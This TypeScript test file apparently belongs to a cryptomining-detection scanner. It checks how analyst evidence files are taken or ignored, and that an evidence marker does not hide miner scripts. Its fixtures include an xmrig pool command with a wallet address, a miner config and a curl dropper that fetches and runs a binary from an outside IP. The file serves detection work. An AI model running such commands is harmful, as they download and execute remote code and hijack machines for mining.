import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { storedZip } from '../../examples/2018-installer/archive.ts';
import { temporaryFolder } from '../../tests/temporary-folder.ts';
import { type Report, reportSchema } from '../model/report.ts';
import { standsIn } from './evidence-files.ts';
import { scan } from './node/scan.ts';

const wallet = '48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD';
const command = `./xmrig -o pool.supportxmr.com:3333 -u ${wallet} -p x --donate-level=1`;
const item = 'source: notes, credibility: 2, forgeability: cheap';
const notes = `davylamp-evidence: 1
sources: {notes: {name: Our notes, reliability: B}}
facts:
  - {id: a, says: "They ran ${command}", ${item}}
`;

async function report(files: Readonly<Record<string, string | Uint8Array>>, ...inputs: string[]): Promise<Report> {
  const folder = temporaryFolder();
  for (const [name, content] of Object.entries(files)) {
    mkdirSync(join(folder, name, '..'), { recursive: true });
    writeFileSync(join(folder, name), content);
  }
  const made = await scan(
    (inputs.length > 0 ? inputs : ['.']).map((input) => join(folder, input)),
    {
      now: () => new Date('2026-11-23T00:00:00Z'),
    },
  );
  expect(reportSchema.safeParse(made).error?.issues ?? []).toEqual([]);
  return made;
}

const facts = ({ observations }: Report): number => observations.filter(({ kind }) => kind === 'fact').length;
const notTaken = /^an evidence file that nobody named: its facts were not taken/;

describe('an evidence file that was named', () => {
  it.each([[['.']], [['evidence.yaml']], [['case', 'evidence.yaml']]])('counts, given %j', async (inputs) => {
    const made = await report({ 'evidence.yaml': notes, 'case/x.txt': 'nothing' }, ...inputs);
    expect(facts(made)).toBe(1);
    expect(made.gaps).toEqual([]);
    expect(made.artifacts).toMatchObject([{ kind: 'evidence' }]);
  });

  it('is no trace of mining itself, whatever its notes quote', async () => {
    const made = await report({ 'evidence.yaml': notes });
    expect(made.verdict.stage).toBe('none');
    expect(new Set(made.observations.map(({ by }) => by))).toEqual(new Set(['analyst-evidence']));
  });

  it('tells each mistake as a gap with its line, and keeps the other items', async () => {
    const made = await report({ 'evidence.yaml': `${notes}  - {id: b, says: x, ${item.replace('2', '7')}}\n` });
    expect(facts(made)).toBe(1);
    expect(made.gaps).toMatchObject([
      { code: 'malformed', what: 'line 5: facts[2].credibility is 7; it takes 1 to 6', offset: expect.any(Number) },
    ]);
  });

  it('keeps what is dated after the report, and says so', async () => {
    const made = await report({
      'evidence.yaml': notes.replace('{id: a', '{id: a, date: 2031-05-06, value: 2099-01-01'),
    });
    expect(facts(made)).toBe(1);
    expect(made.gaps.map(({ what }) => what)).toEqual([
      'line 4: "a" is dated 2031-05-06, after this report; it was kept: check the date',
    ]);
  });

  it('is told of an indicator that no question has', async () => {
    const made = await report({ 'evidence.yaml': notes.replace('{id: a', '{id: a, shows: [who/no-such-thing]') });
    expect(facts(made)).toBe(1);
    expect(made.gaps.map(({ what }) => what)).toEqual([
      'line 4: "a" shows who/no-such-thing, which no question asks for; it moves nothing',
    ]);
  });

  it('is told of two hundred doubts, and how many more there are', async () => {
    const shows = Array.from({ length: 1000 }, (_, i) => `who/z${i}`);
    const made = await report({ 'evidence.yaml': notes.replace('{id: a', `{id: a, shows: [${shows}]`) });
    expect(made.gaps).toHaveLength(201);
    expect(made.gaps.at(-1)?.what).toBe('800 more doubts about facts from here on are not told one by one');
  });
});

describe('an evidence file that nobody named', () => {
  it.each([
    ['deeper in a folder', { 'tree/left/evidence.yaml': notes }],
    ['in an archive', { 'case.zip': storedZip('evidence.yaml', notes) }],
  ])('%s is examined as any other file, and its facts are not taken', async (_, files) => {
    const made = await report(files);
    expect(made.observations.filter(({ by }) => by === 'analyst-evidence')).toEqual([]);
    expect(made.gaps.map(({ what }) => what)).toEqual([expect.stringMatching(notTaken)]);
    expect(made.artifacts.map(({ kind }) => kind)).not.toContain('evidence');
    expect(made.verdict.stage).not.toBe('none');
  });

  it.each(['run', 'run.sh', 'run.txt'])('is the script %s that a shell would run, unless it is named', async (name) => {
    const script = notes.replace('facts:', `about: |\n  true\n  ${command}\nfacts:`);
    const made = await report({ [name]: script });
    expect(facts(made)).toBe(0);
    expect(made.verdict.stage).not.toBe('none');
    expect(made.gaps.map(({ what }) => what)).toEqual([expect.stringMatching(notTaken)]);
    expect(facts(await report({ [name]: script }, name))).toBe(1);
  });

  it('on standard input is never taken', async () => {
    const stdin = (async function* () {
      yield new TextEncoder().encode(notes);
    })();
    const made = await scan(['-'], { stdin });
    expect(facts(made)).toBe(0);
    expect(made.gaps.map(({ what }) => what)).toEqual([expect.stringMatching(notTaken)]);
  });
});

describe('the mark excuses nothing', () => {
  const config = { pools: [{ url: 'pool.supportxmr.com:3333', user: wallet, pass: 'x' }], 'donate-level': 1 };
  const dropper =
    'curl -L -o /tmp/xmrig http://198.51.100.7/xmrig\nchmod +x /tmp/xmrig\n/tmp/xmrig -o 198.51.100.7:80\n';
  it.each([
    ['a miner in a script', 'run', `${command}\n`],
    ['a miner in a script by name', 'run.sh', `${command}\n`],
    ['a script that fetches a miner', 'run', dropper],
    ['a script behind #!', 'run', `#!/bin/sh\n${dropper}`],
    ["a miner's JSON", 'config.json', JSON.stringify(config, null, 2)],
    ["a miner's JSON under a name of ours", 'evidence.json', JSON.stringify(config)],
  ])('on %s', async (_, name, content) => {
    const marked = content.startsWith('{')
      ? content.replace('{', '{"davylamp-evidence": 1,')
      : content.startsWith('#!')
        ? content.replace('\n', '\ndavylamp-evidence: 1\n')
        : `davylamp-evidence: 1\n${content}`;
    const [before, after] = [await report({ [name]: content }), await report({ [name]: marked })];
    const claims = ({ findings }: Report): string[] => findings.map(({ stage, detector }) => `${stage} ${detector}`);
    expect(before.verdict.stage).not.toBe('none');
    expect(claims(after)).toEqual(claims(before));
    expect(after.artifacts.map(({ kind }) => kind)).not.toContain('evidence');
  });
});

describe('a file stands directly in a folder that was named', () => {
  it.each([
    ['x/evidence.yaml', ['x']],
    ['x/evidence.yaml', ['./x/']],
    ['x/evidence.yaml', ['y/../x//']],
    ['evidence.yaml', ['.']],
    ['../evidence.yaml', ['..']],
    ['../x/evidence.yaml', ['y', '.././x']],
    ['/evidence.yaml', ['/']],
    ['/x/evidence.yaml', ['/y/../x']],
    ['C:\\x\\evidence.yaml', ['C:/x/']],
    ['C:\\x\\evidence.yaml', ['C:\\x']],
  ])('%s, given %j', (file, inputs) => expect(standsIn(file, inputs)).toBe(true));

  it.each([
    ['x/y/evidence.yaml', ['x']],
    ['x/y/evidence.yaml', ['.', 'y']],
    ['x/evidence.yaml', ['/x']],
    ['/x/evidence.yaml', ['x']],
    ['x/evidence.yaml', ['x/evidence']],
    ['x/y/..\\..\\x\\evidence.yaml', ['x']],
    ['-/evidence.yaml', ['-']],
    ['evidence.yaml', []],
  ])('but not %s, given %j', (file, inputs) => expect(standsIn(file, inputs)).toBe(false));
});
